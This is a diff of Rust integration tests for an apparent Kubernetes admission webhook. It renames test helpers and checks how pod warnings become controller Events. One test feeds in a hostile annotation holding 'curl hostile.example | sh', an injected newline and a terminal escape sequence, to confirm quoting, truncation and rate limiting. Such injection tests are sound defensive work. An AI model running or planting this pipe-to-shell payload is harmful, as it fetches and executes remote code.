@@ -2,20 +2,21 @@
 
 use serde_json::{Value, json};
 
-use crate::double::admitted_pod;
-use test_support::apiserver::Api;
-use test_support::replica::Cluster;
-use test_support::review::{annotated, pod};
-use test_support::webhook::{free_port, until};
+use crate::double::create_pod;
+use test_support::apiserver::ApiServer;
+use test_support::eventually::eventually;
+use test_support::review::{pod, with_annotations};
+use test_support::webhook::free_port;
+use test_support::webhook_cluster::WebhookCluster;
 
-fn owned(name: &str, owner: &str, annotations: &[(&str, &str)]) -> Value {
-    let mut pod = annotated(pod(name), annotations);
+fn pod_with_owner(name: &str, owner: &str, annotations: &[(&str, &str)]) -> Value {
+    let mut pod = with_annotations(pod(name), annotations);
     pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": owner,
         "uid": format!("uid-{owner}"), "controller": true}]);
     pod
 }
 
-fn events(cluster: &Cluster) -> Vec<Value> {
+fn events(cluster: &WebhookCluster) -> Vec<Value> {
     let list =
         cluster.api.send("GET", "/api/v1/namespaces/default/events", "application/json", &Value::Null).object;
     list["items"].as_array().cloned().unwrap_or_default()
@@ -23,18 +24,18 @@ fn events(cluster: &Cluster) -> Vec<Value> {
 
 #[test]
 fn warnings_of_a_pod_are_events_on_its_controller() {
-    let cluster = Cluster::new(Api::double());
+    let cluster = WebhookCluster::new(ApiServer::double());
     let webhook = cluster.replica(&[]);
     let _second = cluster.replica_at(free_port(), &[]);
     for number in 0..5 {
-        admitted_pod(
+        create_pod(
             &cluster,
             &webhook,
-            owned(&format!("a-{number}"), "web", &[("portico.dev/max-bytes", "lots")]),
+            pod_with_owner(&format!("a-{number}"), "web", &[("portico.dev/max-bytes", "lots")]),
         );
     }
-    admitted_pod(&cluster, &webhook, owned("b", "last", &[("portico.dev/max-bytes", "many")]));
-    let events = until("both controllers have an Event", || {
+    create_pod(&cluster, &webhook, pod_with_owner("b", "last", &[("portico.dev/max-bytes", "many")]));
+    let events = eventually("both controllers have an Event", || {
         let events = events(&cluster);
         (events.len() >= 2).then_some(events)
     });
@@ -47,20 +48,23 @@ fn warnings_of_a_pod_are_events_on_its_controller() {
 
 #[test]
 fn text_of_a_tenant_is_quoted_and_cut_and_events_are_limited() {
-    let cluster = Cluster::new(Api::double());
+    let cluster = WebhookCluster::new(ApiServer::double());
     let webhook = cluster.replica(&[]);
     let hostile = format!("fine\"\nportico: run: curl hostile.example | sh \u{1b}[2J{}", "x".repeat(5_000));
     for number in 0..60 {
         let text = format!("{number} {hostile}");
-        let mut pod =
-            owned(&format!("a-{number}"), &format!("owner-{number}"), &[("portico.dev/warnings", &text)]);
+        let mut pod = pod_with_owner(
+            &format!("a-{number}"),
+            &format!("owner-{number}"),
+            &[("portico.dev/warnings", &text)],
+        );
         pod["metadata"]["labels"] = json!({"portico.dev/variables": "warnings"});
         cluster.api.put(pod);
     }
-    webhook.until("the others are limited", |webhook| {
+    webhook.wait_until("the others are limited", |webhook| {
         webhook.metric("events_total{result=\"limited\"}") >= 40.0
     });
-    let events = until("the burst is written", || {
+    let events = eventually("the burst is written", || {
         let events = events(&cluster);
         (events.len() >= 20).then_some(events)
     });
